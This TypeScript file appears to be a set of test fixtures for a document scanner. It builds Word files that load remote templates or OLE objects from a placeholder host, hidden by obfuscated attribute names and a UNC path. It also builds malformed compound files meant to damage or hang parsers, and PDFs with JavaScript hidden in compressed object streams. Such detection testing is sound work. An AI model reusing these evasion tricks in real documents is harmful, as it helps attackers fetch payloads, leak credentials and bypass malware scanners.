import { deflateSync } from 'node:zlib';
import { joined, relation, type badFiles } from './bad-files';
import { compound } from './compound';
import { office, pdf, pdfStream } from './good-files';

/** Packed objects, all of which say that they stand where the text does. */
function manyInOne(): Buffer {
  const names = Array.from({ length: 30 }, (_, index) => `\u0001Ole10Nativ${String.fromCharCode(0x100 + index)}`);
  const storages = Object.fromEntries(names.map((name) => [name, undefined]));
  const file = compound({ WordDocument: Buffer.alloc(40_960), ...storages });
  const [directory, entry, letter] = [1024, 128, 22];
  const text = directory + entry;
  for (let at = text + entry; at <= directory + entry * 31; at += entry) {
    file.write('e', at + letter, 'utf16le');
    file.writeUInt8(2, at + 0x42);
    file.copy(file, at + 0x74, text + 0x74, text + 0x7c);
  }
  return file;
}

/** A table that is said to stand in one sector many times over. */
function tableBeyond(): Buffer {
  const file = compound({ WordDocument: Buffer.alloc(4096) });
  const first = file.length / 512 - 1;
  file.writeUInt32LE(first, 0x44);
  const more = Array.from({ length: 10 }, (_, index) => {
    const sector = Buffer.alloc(512);
    sector.writeUInt32LE(index === 9 ? 0xfffffffe : first + index + 1, 508);
    return sector;
  });
  return joined(file, ...more);
}

/** What is written so that whoever looks for it does not find it, or looks for ever. */
export const oddFiles: typeof badFiles = {
  'a template from elsewhere in other quotes': [
    '稿.docx',
    office('docx', {
      'word/_rels/settings.xml.RELS': relation('attachedTemplate', 'https://x.example/a.dotm').replaceAll('"', "'"),
    }),
    'file.loads',
  ],
  'a template from elsewhere by its letters’ numbers': [
    '稿.docx',
    office('docx', {
      'word/_rels/settings.xml.rels': relation('attached&#x54;emplate', '&#104;ttps://x.example/a.dotm'),
    }),
    'file.loads',
  ],
  'an object from a server': [
    '稿.docx',
    office('docx', { 'word/_rels/document.xml.rels': relation('oleObject', 'file:///\\\\x.example\\a.docx') }),
    'file.loads',
  ],
  'a template under a name of its own': [
    '稿.docx',
    office('docx', {
      'word/_rels/settings.xml.rels': `<!DOCTYPE a [<!ENTITY t "attachedTemplate">]>${relation('&t;', 'https://x.example')}`,
    }),
    'file.loads',
  ],
  'a thousand streams in the place of one': ['稿.doc', manyInOne(), 'file.damaged'],
  'a table of more sectors than there are': ['稿.doc', tableBeyond(), 'file.damaged'],
  'a script among objects that are packed twice': [
    '函.pdf',
    pdf(pdfStream('/Type /ObjStm /First 4 /Filter [/FlateDecode]', deflateSync('5 0 << /S /JavaScript >>'))),
    'file.active',
  ],
  'packed objects in a way that another object tells': [
    '函.pdf',
    pdf(
      joined(
        '9 0 obj\n<< /Type /ObjStm /First 4 /Filter 8 0 R >>\nstream\n',
        deflateSync('x'),
        '\nendstream\nendobj\n',
      ),
    ),
    'file.active',
  ],
  'a script among packed objects behind a blank': [
    '函.pdf',
    pdf(
      Buffer.from(
        pdfStream('/Type /ObjStm /N 1 /First 4', '5 0 << /S /JavaScript /JS (1) >>')
          .toString('latin1')
          .replace('\nstream\n', '\nstream \r\n'),
        'latin1',
      ),
    ),
    'file.active',
  ],
  'a stream that begins in its line': ['函.pdf', pdf('9 0 obj\n<< >>\nstream x\nendstream\nendobj\n'), 'file.damaged'],
};
